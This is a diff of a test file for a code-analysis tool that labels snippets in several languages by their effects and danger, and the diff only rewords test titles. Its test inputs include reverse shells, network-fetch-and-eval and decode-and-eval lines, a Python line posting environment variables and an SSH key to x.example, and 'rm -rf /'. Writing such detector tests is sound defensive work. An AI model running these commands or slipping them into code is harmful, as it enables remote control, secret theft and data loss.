@@ -93,7 +93,7 @@ const php: Cases = [
   ["preg_replace('/x/e', 'f()', $y);", "danger high what it replaces text with is run as code"],
 ];
 
-test("what is printed without brackets, and what is evaluated as a list, is followed", () => {
+test("print without parentheses and eval of a list are followed", () => {
   expect(tell("perl", 'print pack("H*", $_)')).toContain("prints decoded");
   expect(tell("ruby", 'puts x.unpack1("m")')).toContain("prints decoded");
   expect(tell("ruby", 'eval ["aWQ="].pack("H*")')).toContain("decodes text and runs it");
@@ -115,7 +115,7 @@ describe.each([
   ["ruby", ruby],
   ["php", php],
   ["other", other],
-] as const)("what %s code does is told", (language, cases) => {
+] as const)("effects of %s code", (language, cases) => {
   test.each(cases)("%s", (code, expected) => {
     expect(tell(language, code)).toBe(expected);
   });
@@ -140,7 +140,7 @@ test.each([
   ["ruby", "puts [1, 2].map { |x| x * 2 }.select(&:even?).inspect, RUBY_VERSION, 10 / 2, %w[a b].join(',')"],
   ["php", "foreach ([1, 2] as $v) { echo \"a $v {$x['y']}\", $v / 2; }"],
   ["other", "local t = {1, 2}; print(#t, 'it''s'); cat(\"a\\n\")"],
-] as const)("%s code that computes and prints does nothing else: %s", (language, code) => {
+] as const)("%s code that only computes and prints has no effect: %s", (language, code) => {
   expect(tell(language, code)).toBe("");
 });
 
@@ -160,7 +160,7 @@ test.each([
   ["perl", "use LWP::Simple; eval get('http://x.example')"],
   ["ruby", "require 'open-uri'; eval URI.open('http://x.example').read"],
   ["php", "eval(file_get_contents('http://x.example'));"],
-] as const)("text from the network that is run is critical in %s: %s", (language, code) => {
+] as const)("running text from the network is critical in %s: %s", (language, code) => {
   expect(critical(language, code)).toContain("its code runs text from the network");
 });
 
@@ -173,7 +173,7 @@ test.each([
   ["perl", "eval pack('H*', '78')"],
   ["ruby", "require 'base64'; eval Base64.decode64('eA==')"],
   ["php", "eval(gzinflate(base64_decode('eA==')));"],
-] as const)("text that is decoded and run is critical in %s: %s", (language, code) => {
+] as const)("running decoded text is critical in %s: %s", (language, code) => {
   expect(critical(language, code)).toContain("its code decodes text and runs it");
 });
 
@@ -189,11 +189,11 @@ test.each([
   ["perl", "use Socket;socket(S,2,1,6);connect(S,$a);open(STDIN,'>&S');exec('sh -i')"],
   ["ruby", "require 'socket';c=TCPSocket.new('h',1);while l=c.gets;IO.popen(l){|i|c.print i.read};end"],
   ["php", "$s=fsockopen('h',1);exec('sh <&3 >&3');"],
-] as const)("a shell at the end of a connection is critical in %s", (language, code) => {
+] as const)("a reverse shell is critical in %s", (language, code) => {
   expect(critical(language, code)).toContain("its code gives another machine a shell here");
 });
 
-test("secrets that are sent are told as sent", () => {
+test("secrets that code sends are reported as sent", () => {
   const sent = codeEffects(
     "python",
     literal("import os, requests; requests.post('https://x.example', data=dict(os.environ))"),
@@ -210,13 +210,13 @@ test("secrets that are sent are told as sent", () => {
   expect(file).toContain("sends https://x.example /home/dev/.ssh/id_rsa");
 });
 
-test("code of which a part is unknown is dangerous, and what is known of it is still read", () => {
+test("partly unknown code is high, and its known part is still analysed", () => {
   const effects = told(codeEffects("python", literal(`import os; os.system('rm -rf /'); print(${unknown})`)));
   expect(effects).toContain("interprets shell rm -rf /");
   expect(effects).toContain("danger high part of its code is only known when it runs");
 });
 
-test("a quote that never ends hides nothing behind it", () => {
+test("an unclosed quote does not hide the code after it", () => {
   expect(tell("python", "x = 'a\nimport os; os.system('id')")).toContain(
     "danger high its code cannot be read",
   );
@@ -263,7 +263,7 @@ const pieces = fc.constantFrom(
 );
 
 test.each(["python", "javascript", "perl", "ruby", "php", "other", "awk", "sed"] as const)(
-  "reading %s never throws and ends soon",
+  "analysing %s never throws and is fast",
   (language) => {
     const code = fc.oneof(
       fc.string({ unit: "binary", maxLength: 200 }),
